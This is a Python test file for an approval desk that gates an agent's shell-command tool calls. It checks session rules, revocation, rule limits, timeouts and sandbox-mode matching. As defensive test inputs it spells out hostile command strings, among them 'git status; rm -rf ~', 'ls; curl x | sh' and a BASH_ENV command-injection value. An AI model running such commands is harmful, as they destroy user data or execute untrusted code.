"""Approval rules and the ask timeout at the desk (``ApprovalDesk`` through a fake port, no
session): a rule decides a later call with its audit pair (``by: rule``, ``ruleId``) whoever
proposed it -- a client's call or a model's, both pass ``gate`` with ``approved`` false; a
rule that cannot be made durable is taken back and decides nothing; the 256-rule bound; a
revoke is at once; policy ``never`` beats a rule; ``askTimeout`` is the grace of the one
rule (autojump clock: virtual seconds)."""

from __future__ import annotations

from dataclasses import dataclass

import pytest
import trio

from dshd import errors
from dshd.sessions.approval import ApprovalDesk
from dshd.sessions.rules import MAX_RULES, RuleBook
from dshd.storage.errors import StorageError
from tests.sessions.test_approval_port import FakeCall, _append, _gate
from tests.sessions.test_approval_port import FakePort as _BasePort


class FakePort(_BasePort):
    """The fake port of test_approval_port, taking the ``ignorable`` flag rule events use."""

    def record(self, type_: str, data: dict, ignorable: bool = False) -> int:
        if ignorable:
            assert type_.startswith("approval/rule")
        return super().record(type_, data)

    async def wait_durable(self, seq: int) -> None:
        if self.fail_on == "rule-durable" and self.events[seq][0] == "approval/rule":
            raise StorageError("fsync says no")
        await super().wait_durable(seq)


@dataclass
class TimedCall(FakeCall):
    ask_timeout: float = 0.0


async def _allowed_by_rule(desk, port, command: str, kind: str, rule_command: str | None):
    """Ask ``command``, answer it allow-for-session with the rule; the rule id."""
    desk.answerer_joined("sub-1")
    result: list = []
    async with trio.open_nursery() as nursery:
        nursery.start_soon(lambda: _append(result, _gate(desk, FakeCall(
            arguments={"command": command}))))
        await port.changed.wait()
        (aid, _), = port.shown.items()
        outcome, rule_id = await desk.allow_for_session(aid, kind, rule_command, 1000)
    desk.answerer_left("sub-1")
    assert result == ["allowed-once"] and outcome == "allowed-once"
    return rule_id


async def test_a_rule_decides_a_later_call_with_its_audit_pair():
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    rule_id = await _allowed_by_rule(desk, port, "git status", "prefix", "git status")
    types = [t for t, _ in port.events]
    assert types == ["approval/asked", "approval/rule", "approval/decided"]
    assert port.events[2][1] == {"approvalId": port.events[0][1]["approvalId"],
                                 "outcome": "allowed-once", "by": "answerer", "ruleId": rule_id}
    # no answerer now: a model's call (approved false, like any) the rule allows runs
    assert await _gate(desk, FakeCall("c-2", arguments={"command": "git status -s"})) == \
        "allowed-once"
    (t1, asked), (t2, decided) = port.events[3:]
    assert (t1, t2) == ("approval/asked", "approval/decided")
    assert decided == {"approvalId": asked["approvalId"], "outcome": "allowed-once",
                       "by": "rule", "ruleId": rule_id}
    # a hostile one, and another tool, are not
    assert await _gate(desk, FakeCall("c-3", arguments={"command": "git status; rm -rf ~"})) \
        == "APPROVAL_UNAVAILABLE"
    assert await _gate(desk, FakeCall("c-4", name="other", arguments={"command": "git status"})) \
        == "APPROVAL_UNAVAILABLE"
    # revoked: at once
    await desk.revoke_rule(rule_id, 1000)
    assert port.events[-1] == ("approval/rule-revoked", {"ruleId": rule_id, "by": 1000})
    assert await _gate(desk, FakeCall("c-5", arguments={"command": "git status"})) == \
        "APPROVAL_UNAVAILABLE"
    with pytest.raises(errors.InvalidParams) as gone:
        await desk.revoke_rule(rule_id, 1000)
    assert gone.value.data == {"field": "ruleId", "code": "RULE_NOT_FOUND"}


async def test_policy_never_rejects_even_what_a_rule_allows():
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    await _allowed_by_rule(desk, port, "make", "exact", None)
    port.policy = "never"
    assert await _gate(desk, FakeCall("c-2", arguments={"command": "make"})) == \
        "APPROVAL_REJECTED"


async def test_a_rule_that_cannot_be_made_durable_is_taken_back_and_decides_nothing():
    port = FakePort(fail_on="rule-durable")
    desk = ApprovalDesk(port, "s-1")
    desk.answerer_joined("sub-1")
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_gate, desk, FakeCall(arguments={"command": "make"}))
        await port.changed.wait()
        (aid, _), = port.shown.items()
        with pytest.raises(StorageError):
            await desk.allow_for_session(aid, "exact", None, 1000)
        assert not desk.rules.live and not desk.rules.logged  # the undo folded too
        assert [t for t, _ in port.events][-2:] == ["approval/rule", "approval/rule-revoked"]
        assert aid in port.shown  # still pending: the person may decide again
        desk.decide(aid, "reject")


async def test_a_rule_must_allow_the_call_it_comes_with():
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    desk.answerer_joined("sub-1")
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_gate, desk, FakeCall(arguments={"command": "ls; curl x | sh"}))
        await port.changed.wait()
        (aid, _), = port.shown.items()
        for kind, command in (("prefix", "ls"), ("prefix", "ls; curl x"), ("exact", "ls")):
            with pytest.raises(errors.InvalidParams) as bad:
                await desk.allow_for_session(aid, kind, command, 1000)
            assert bad.value.data["code"] == "BAD_RULE"
        assert not desk.rules.logged
        assert (await desk.allow_for_session(aid, "exact", "ls; curl x | sh", 1000))[0] == \
            "allowed-once"


def test_the_rule_bound():
    book = RuleBook()
    for n in range(MAX_RULES):
        book.fold("approval/rule", {"ruleId": f"r-{n:012x}", "kind": "exact",
                                    "command": f"echo {n}", "by": 0, "at": 0})
    book.opened()
    with pytest.raises(errors.LimitExceeded) as full:
        book.check_room()
    assert full.value.data == {"code": "RULE_LIMIT"}
    book.revoke("r-000000000000")
    book.fold("approval/rule-revoked", {"ruleId": "r-000000000000"})
    book.check_room()
    restored = RuleBook()
    restored.restore(book.snapshot())
    restored.opened()
    assert restored.listed() == book.listed() and len(restored.live) == MAX_RULES - 1


async def test_an_ask_timeout_waits_for_a_decision_then_ends_unavailable(autojump_clock):
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    start = trio.current_time()
    assert await _gate(desk, TimedCall(ask_timeout=30.0)) == "APPROVAL_UNAVAILABLE"
    assert trio.current_time() - start == pytest.approx(30.0)
    [(_, decided)] = [e for e in port.events if e[0] == "approval/decided"]
    assert (decided["outcome"], decided["by"]) == ("unavailable", "policy")
    # decided within the timeout by a connection that is no answerer
    port.changed = trio.Event()
    result: list = []
    async with trio.open_nursery() as nursery:
        nursery.start_soon(lambda: _append(result, _gate(desk, TimedCall("c-2", ask_timeout=30.0))))
        await port.changed.wait()
        port.changed = trio.Event()
        (aid, _), = port.shown.items()
        assert [a for a, _ in desk.requests()] == [aid]
        await trio.sleep(10)
        desk.decide(aid, "allow-once")
    assert result == ["allowed-once"]
    # an answerer that comes and goes within it does not end the wait
    result = []
    async with trio.open_nursery() as nursery:
        nursery.start_soon(lambda: _append(result, _gate(desk, TimedCall("c-3", ask_timeout=30.0))))
        await port.changed.wait()
        desk.answerer_joined("sub-9")
        desk.answerer_left("sub-9")
        await trio.sleep(20)
        assert result == []
        (aid, _), = port.shown.items()
        desk.decide(aid, "reject")
    assert result == ["APPROVAL_REJECTED"]


async def _pending_aid(desk, port, arguments: dict):
    """Start a gate for ``arguments`` (an answerer attached) in a nursery; its approval id."""
    await port.changed.wait()
    (aid, request), = port.shown.items()
    return aid, request


async def test_an_exact_rule_that_is_not_the_command_says_its_text_must_equal_it():
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    desk.answerer_joined("sub-1")
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_gate, desk, FakeCall(arguments={"command": "ls -l"}))
        aid, _ = await _pending_aid(desk, port, {})
        with pytest.raises(errors.InvalidParams) as bad:
            await desk.allow_for_session(aid, "exact", "ls", 1000)
        message = str(bad.value)
        assert bad.value.data["code"] == "BAD_RULE"
        assert "exact rule's text must equal the command" in message, message
        assert "prefix" not in message and "with an exact rule instead" not in message
        desk.decide(aid, "reject")


async def test_a_call_with_an_env_is_asked_whatever_the_rules_and_shows_its_env():
    port = FakePort()
    desk = ApprovalDesk(port, "s-1")
    await _allowed_by_rule(desk, port, "ls", "prefix", "ls")
    port.changed = trio.Event()
    await _allowed_by_rule(desk, port, "make", "exact", None)
    for n, command in enumerate(["ls", "make"]):
        call = FakeCall(f"e-{n}", arguments={"command": command,
                                             "env": {"BASH_ENV": "$(id > PWNED)"}})
        assert await _gate(desk, call) == "APPROVAL_UNAVAILABLE"
        asked = [d for t, d in port.events if t == "approval/asked"][-1]
        assert asked["summary"] == f"BASH_ENV='$(id > PWNED)' {command}"
    # an empty env is no env: the rule applies
    assert await _gate(desk, FakeCall("e-9", arguments={"command": "ls", "env": {}})) == \
        "allowed-once"


async def test_a_rule_matches_only_while_the_sandbox_is_as_strict_as_when_it_was_made():
    port = FakePort()
    port.mode = "workspace-write"
    desk = ApprovalDesk(port, "s-1")
    await _allowed_by_rule(desk, port, "ls", "prefix", "ls")
    [rule] = [d for t, d in port.events if t == "approval/rule"]
    assert rule["sandbox"] == "workspace-write"
    for mode, outcome in (("danger-full-access", "APPROVAL_UNAVAILABLE"),
                          ("read-only", "allowed-once"), ("workspace-write", "allowed-once"),
                          ("something-new", "APPROVAL_UNAVAILABLE")):
        port.mode = mode
        assert await _gate(desk, FakeCall(f"m-{mode}", arguments={"command": "ls -a"})) == \
            outcome, mode
    # a rule logged without a mode (before modes were recorded) is taken as read-only's
    book = RuleBook()
    book.fold("approval/rule", {"ruleId": "r-000000000001", "kind": "exact", "command": "ls",
                                "by": 0, "at": 0})
    book.opened()
    assert book.match("bash", "ls", mode="read-only") is not None
    assert book.match("bash", "ls", mode="workspace-write") is None
